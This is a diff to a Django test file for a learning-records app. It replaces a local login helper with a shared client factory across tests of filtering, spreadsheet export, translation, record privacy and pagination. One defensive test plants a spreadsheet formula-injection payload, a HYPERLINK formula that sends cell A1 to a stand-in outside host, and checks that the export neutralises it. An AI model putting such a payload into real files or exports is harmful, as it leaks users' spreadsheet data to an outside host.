@@ -23,6 +23,7 @@ from learning.records import views
 from learning.records.models import Record
 from learning.records.selectors import RecordNotFound, own_records, record_with_statements
 from learning.records.tables import safe_cell
+from tests.factories.clients import client_of
 from tests.factories.courses import (
     NOW,
     Writing,
@@ -50,12 +51,6 @@ def writing(db: None) -> Writing:
         complete_lessons(learner, slug, 1, now=now)
     started(learner, "begun", LATER)
     return writing
-
-
-def browser(person: User) -> Client:
-    client = Client()
-    client.force_login(person, backend="learning.people.backends.EmployedBackend")
-    return client
 
 
 def titles(person: User, **chosen: str) -> list[str]:
@@ -92,7 +87,7 @@ def test_filters_narrow_the_page_and_the_file_alike(
     learner = writing.cast.learner
     assert set(titles(learner, **chosen)) == expected
     query = "?" + "&".join(f"{name}={value}" for name, value in chosen.items())
-    client = browser(learner)
+    client = client_of(learner)
     assert {row[0] for row in sheet(client, query)[1:]} == expected
     page = client.get(f"/my-learning/{query}").content.decode()
     assert len(re.findall(r'<th scope="row"', page)) == len(expected)
@@ -106,7 +101,7 @@ def test_a_cell_that_a_spreadsheet_would_run_is_only_shown(writing: Writing) -> 
     evil = '=HYPERLINK("https://elsewhere.example?"&A1,"Click")'
     published_course(writing, title=evil, slug="evil", lessons=1)
     started(writing.cast.learner, "evil", LATER)
-    cells = {row[0] for row in sheet(browser(writing.cast.learner))[1:]}
+    cells = {row[0] for row in sheet(client_of(writing.cast.learner))[1:]}
     assert f"'{evil}" in cells
     assert evil not in cells
 
@@ -118,7 +113,7 @@ def test_every_start_of_a_formula_is_disarmed(start: str) -> None:
 
 
 def test_the_file_speaks_the_language_of_the_page(writing: Writing) -> None:
-    client = browser(writing.cast.learner)
+    client = client_of(writing.cast.learner)
     english = sheet(client)[0]
     client.cookies["django_language"] = "cy"
     assert sheet(client)[0] != english
@@ -127,7 +122,7 @@ def test_the_file_speaks_the_language_of_the_page(writing: Writing) -> None:
 def test_a_line_shows_every_statement_behind_it_as_it_is_stored(writing: Writing) -> None:
     learner = writing.cast.learner
     record = Record.objects.get(activity__activity__slug="done")
-    page = browser(learner).get(f"/my-learning/{record.pk}/").content.decode()
+    page = client_of(learner).get(f"/my-learning/{record.pk}/").content.decode()
     shown = [
         json.loads(html.unescape(raw))
         for raw in re.findall(r"<pre[^>]*><code>(.*?)</code>", page, re.DOTALL)
@@ -150,7 +145,7 @@ def test_another_persons_record_looks_like_none(writing: Writing) -> None:
     for person in (people.manager, people.mentor, people.outsider, people.ld_lead, people.admin):
         with pytest.raises(RecordNotFound):
             record_with_statements(person, record.pk, on=NOW.date())
-        assert browser(person).get(f"/my-learning/{record.pk}/").status_code == 404
+        assert client_of(person).get(f"/my-learning/{record.pk}/").status_code == 404
 
 
 def test_a_withdrawn_course_stays_on_the_record(writing: Writing) -> None:
@@ -163,7 +158,7 @@ def test_a_withdrawn_course_stays_on_the_record(writing: Writing) -> None:
 def test_many_records_come_in_pages(writing: Writing, monkeypatch: pytest.MonkeyPatch) -> None:
     assert views.PER_PAGE == 50
     monkeypatch.setattr(views, "PER_PAGE", 2)  # fifty courses take long to publish
-    client = browser(writing.cast.learner)
+    client = client_of(writing.cast.learner)
     first = client.get("/my-learning/").content.decode()
     second = client.get("/my-learning/?page=2").content.decode()
     assert len(re.findall(r'<th scope="row"', first)) == 2
@@ -174,7 +169,7 @@ def test_many_records_come_in_pages(writing: Writing, monkeypatch: pytest.Monkey
 def test_a_record_of_many_statements_comes_in_pages_at_a_constant_price(writing: Writing) -> None:
     learner = writing.cast.learner
     record = Record.objects.get(activity__activity__slug="done")
-    client = browser(learner)
+    client = client_of(learner)
     address = f"/my-learning/{record.pk}/"
 
     def opened(query: str = "") -> tuple[list[dict[str, object]], str, int]:
